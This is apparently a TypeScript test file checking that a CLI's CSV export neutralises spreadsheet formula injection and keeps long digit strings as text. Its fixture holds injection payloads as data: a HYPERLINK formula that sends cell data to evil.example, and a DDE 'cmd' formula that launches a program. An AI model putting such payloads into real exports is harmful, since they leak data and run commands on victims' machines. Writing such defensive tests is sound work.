/**
 * CSV formula injection (OWASP): text cells a spreadsheet would run as a formula get a leading
 * apostrophe; numbers, negative amounts included, are untouched; `--raw` keeps the exact text.
 * Read back with csv-parse, as a spreadsheet import would split the fields.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvOfObjects } from '../../../src/cli/output/csv-text.js';
import { cashSaleColumns } from '../../../src/cli/output/columns/cash-sale.js';
import { itemSpecColumns } from '../../../src/cli/output/columns/item-spec.js';
import { renderRecords } from '../../../src/cli/output/render.js';
import { TextSink } from './sink.js';

const HOSTILE = {
  id: 7,
  issuedTo: '=HYPERLINK("http://evil.example/?d="&A1,"click")',
  issuedToPhone: '+254700000001',
  notes: "-2+3+cmd|' /C calc'!A0",
  refNo: '@SUM(1+1)*cmd',
  receiptNo: '\t=1+1',
  paymentMethod: '\r=1+1',
  transactionType: 'CASH',
  totalAmount: -5,
  balance: -1234.5,
  amountPaid: 0,
};

async function csv(raw: boolean): Promise<Record<string, string>> {
  const sink = new TextSink();
  await renderRecords([HOSTILE], sink, {
    format: 'csv',
    columns: cashSaleColumns,
    fields: ['id', 'issuedTo', 'issuedToPhone', 'notes', 'refNo', 'receiptNo', 'paymentMethod', 'transactionType', 'totalAmount', 'balance', 'amountPaid'],
    raw,
  });
  return (parse(sink.text, { columns: true }) as Record<string, string>[])[0]!;
}

describe('CSV formula injection', () => {
  it('puts an apostrophe before text starting with =, +, -, @, tab or CR; numbers stay numbers', async () => {
    expect(await csv(false)).toEqual({
      id: '7',
      issuedTo: `'${HOSTILE.issuedTo}`,
      issuedToPhone: "'+254700000001",
      notes: `'${HOSTILE.notes}`,
      refNo: `'${HOSTILE.refNo}`,
      receiptNo: `'${HOSTILE.receiptNo}`,
      paymentMethod: `'${HOSTILE.paymentMethod}`,
      transactionType: 'CASH',
      totalAmount: '-5.00',
      balance: '-1234.50',
      amountPaid: '0.00',
    });
  });

  it('--raw keeps the text exactly as sent', async () => {
    const row = await csv(true);
    expect(row.issuedTo).toBe(HOSTILE.issuedTo);
    expect(row.receiptNo).toBe(HOSTILE.receiptNo);
    expect(row.paymentMethod).toBe(HOSTILE.paymentMethod);
    expect(row.totalAmount).toBe('-5.00');
  });

  it('a single CSV record (sale save, dry run) is neutralised alike, numbers untouched', () => {
    expect(csvOfObjects([{ receiptNo: '=1+1', id: -3, name: 'plain' }])).toBe("receiptNo,id,name\r\n'=1+1,-3,plain\r\n");
    expect(csvOfObjects([{ receiptNo: '=1+1' }], true)).toBe('receiptNo\r\n=1+1\r\n');
  });
});

describe('CSV digits a spreadsheet would alter', () => {
  const UNIT = { id: 1, imei1: '356805120010535', imei2: '86012342509234212', serialNo: '0001234', itemCode: '12345678901', color: '2024' };
  async function unitCsv(raw: boolean): Promise<{ text: string; row: Record<string, string> }> {
    const sink = new TextSink();
    await renderRecords([UNIT], sink, { format: 'csv', columns: itemSpecColumns, fields: Object.keys(UNIT), raw });
    return { text: sink.text, row: (parse(sink.text, { columns: true }) as Record<string, string>[])[0]! };
  }

  it('writes 12 or more digits, or digits with a leading zero, as ="…" so Excel, LibreOffice and Sheets keep the text', async () => {
    const { text, row } = await unitCsv(false);
    expect(text.split('\r\n')[1]).toBe('1,"=""356805120010535""","=""86012342509234212""","=""0001234""",12345678901,2024');
    expect(row).toEqual({
      id: '1',
      imei1: '="356805120010535"',
      imei2: '="86012342509234212"',
      serialNo: '="0001234"',
      itemCode: '12345678901',
      color: '2024',
    });
  });

  it('--raw writes the plain digits, for programs', async () => {
    const { row } = await unitCsv(true);
    expect(row).toEqual({ id: '1', imei1: UNIT.imei1, imei2: UNIT.imei2, serialNo: UNIT.serialNo, itemCode: UNIT.itemCode, color: '2024' });
  });

  it('leaves text that only starts with digits, and phone numbers with +, to the other rules', () => {
    expect(csvOfObjects([{ a: '356805120010535 (box)', b: '+254712345678', c: '0', d: '0712345678' }])).toBe(
      'a,b,c,d\r\n356805120010535 (box),\'+254712345678,0,"=""0712345678"""\r\n',
    );
  });
});
